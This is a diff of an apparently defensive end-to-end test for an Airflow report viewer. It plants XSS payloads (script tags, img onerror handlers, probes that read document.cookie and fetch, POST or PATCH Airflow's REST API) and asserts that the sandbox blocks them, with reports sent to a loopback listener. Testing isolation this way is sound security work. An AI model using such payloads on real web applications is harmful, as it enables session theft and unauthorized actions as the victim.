@@ -11,10 +11,11 @@ never run) points the viewer at the batch, as the plan task's XCom does.
 
 Each payload, if it ran, would record itself in ``window.P`` and call a loopback listener of the
 test with what it saw. The test proves: no planted payload ran (in Airflow's UI frame or as the top
-window); the probes that run do so in an opaque origin where ``document.cookie`` throws and
-Airflow's REST API answers no request (a read, a simple POST that would trigger a run, a PATCH
-that would pause the DAG) while the same read from Airflow's own origin succeeds with the
-session cookie; and links between report pages, Data Docs included, still work in the UI's frame.
+window); the probes that run do so in an opaque origin where ``document.cookie`` throws and no
+request of theirs leaves the page (a read of Airflow's REST API, a simple POST that would trigger a
+run, a PATCH that would pause the DAG, an image to the listener), while the same read from
+Airflow's own origin succeeds with the session cookie; and links between report pages, Data Docs
+included (their lists drawn by the vendored scripts), still work in the UI's frame.
 """
 
 from __future__ import annotations
@@ -25,22 +26,20 @@ import json
 import shutil
 import threading
 import time
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from types import SimpleNamespace
-from urllib.parse import unquote, urlsplit
 
 import pytest
 
 from tasks import layout
 from tasks.batch import Batch
-from tasks.orchestration.batch_xcom import BATCH_XCOM_KEY, PLAN_TASK_ID
 from tasks.orchestration.steps import batch_record, run_batch_id
 from tasks.records.review import new_decision
 from tasks.records.suite_summary import SummaryCounts
 from tasks.report import write_report_index
 
 from .browser import chromium, sign_in
+from .report_runs import Listener, register_run
 
 pytestmark = [pytest.mark.e2e, pytest.mark.slow]
 HOSTILE_RUN = "manual__hostile-report"
@@ -63,7 +62,8 @@ RECORD = (
     "fetch('/api/v2/dags',{credentials:'include'}).then(x=>x.status,e=>e.name)"
     ".then(s=>{new Image().src='LISTENER/api?'+encodeURIComponent(JSON.stringify({t:'TAG',s:s}))})"
 )
-# The probe pages' script: the same, plus a POST that would trigger a run and a PATCH that would pause the DAG.
+# The probe pages' script: the same, plus a POST that would trigger a run and a PATCH that would pause the DAG;
+# what it saw is left in window.P (the image that would carry it to the listener is refused too).
 PROBE = """
 const seen = {o: self.origin};
 try { seen.c = document.cookie } catch (e) { seen.c = e.name }
@@ -89,32 +89,6 @@ def payload(tag: str, listener: str, *, short: bool = False) -> str:
     if short:  # decided_by holds at most 256 characters
         return f"<img src=x onerror=\"new Image().src='{listener}/ran?{tag}'\">"
     return f'<script>{script}</script><img src=x onerror="{script}">'
-
-
-class Beacon(BaseHTTPRequestHandler):
-    """Keeps the path and query of each request in its server's ``heard``."""
-
-    def do_GET(self) -> None:
-        parts = urlsplit(self.path)
-        self.server.heard.append((parts.path, unquote(parts.query)))
-        self.send_response(204)
-        self.end_headers()
-
-    def log_message(self, *args: object) -> None:
-        pass
-
-
-class Listener(ThreadingHTTPServer):
-    """A loopback HTTP server that keeps every request it gets: what payloads and probes report."""
-
-    def __init__(self) -> None:
-        super().__init__(("127.0.0.1", 0), Beacon)
-        self.heard: list[tuple[str, str]] = []
-        self.url = f"http://127.0.0.1:{self.server_address[1]}"
-
-    def reports(self, path: str) -> list[dict]:
-        """What was reported as JSON to ``path``."""
-        return [json.loads(query) for heard, query in self.heard if heard == path and query.startswith("{")]
 
 
 @pytest.fixture(scope="module")
@@ -204,28 +178,6 @@ def probe_file(name: str, listener: str) -> str:
     return f"<!doctype html><title>probe</title><script>{script}</script>"
 
 
-def register_run(dag_id: str, run_id: str, record: dict) -> None:
-    """A finished run of ``dag_id`` (never executed) whose plan task recorded ``record``."""
-    from airflow.models.serialized_dag import SerializedDagModel
-    from airflow.models.xcom import XComModel
-    from airflow.utils import timezone
-    from airflow.utils.session import create_session
-    from airflow.utils.state import DagRunState
-    from airflow.utils.types import DagRunTriggeredByType, DagRunType
-
-    with create_session() as session:
-        SerializedDagModel.get_dag(dag_id, session=session).create_dagrun(
-            run_id=run_id,
-            run_after=timezone.utcnow(),
-            run_type=DagRunType.MANUAL,
-            triggered_by=DagRunTriggeredByType.TEST,
-            state=DagRunState.SUCCESS,
-            session=session,
-        )
-        session.flush()
-        XComModel.set(BATCH_XCOM_KEY, record, dag_id=dag_id, task_id=PLAN_TASK_ID, run_id=run_id, session=session)
-
-
 def dag_state(dag_id: str) -> tuple[bool, int]:
     """Whether ``dag_id`` is paused, and how many runs it has."""
     from airflow.models.dag import DagModel
@@ -277,10 +229,7 @@ def open_report_tab(browser, wait, run_page: str) -> None:
 
 
 def data_docs_at(suffix: str):
-    """A wait condition: the browser shows a Data Docs page (by its title) at an address ending in ``suffix``.
-
-    The title comes before the page's CDN scripts, whose failing loads offline may hold up the rest.
-    """
+    """A wait condition: the browser shows a Data Docs page (by its title) at an address ending in ``suffix``."""
     return lambda browser: (
         address_of(browser).endswith(suffix) and "Great Expectations" in browser.execute_script("return document.title")
     )
@@ -333,8 +282,9 @@ def test_planted_scripts_cannot_act_as_the_reader(hostile_run, api_server_url, l
         wait.until(data_docs_at("/lineage/run-000/index.html"))
         assert browser.execute_script("return self.origin") == "null" and "/signed/" in address_of(browser)
         assert browser.execute_async_script(LOADS_IMAGE, "static/images/favicon.ico")  # a file below the page
-        # (offline, the index's links are drawn by CDN scripts: the page follows one of their addresses itself)
-        browser.execute_script("location.href = arguments[0]", "expectations/lineage/shards.html")
+        # the index's list of suites is drawn by its vendored bootstrap-table: follow one of its links
+        wait.until(lambda b: b.find_elements(By.CSS_SELECTOR, "table a[href='expectations/lineage/shards.html']"))
+        browser.find_element(By.CSS_SELECTOR, "table a[href='expectations/lineage/shards.html']").click()
         wait.until(data_docs_at("/lineage/run-000/expectations/lineage/shards.html"))
         browser.switch_to.default_content()
         open_report_tab(browser, wait, f"{url}/dags/{dag_id}/runs/{run_id}")
@@ -362,6 +312,5 @@ def test_planted_scripts_cannot_act_as_the_reader(hostile_run, api_server_url, l
         browser.quit()
 
     time.sleep(1)
-    assert listener.reports("/probe") == [SANDBOXED, SANDBOXED]
-    assert not [heard for heard in listener.heard if heard[0] != "/probe"]  # no planted payload ever ran
+    assert listener.heard == []  # no planted payload ran, and nothing a probe sent left its page
     assert dag_state(dag_id) == before  # not paused, no run triggered
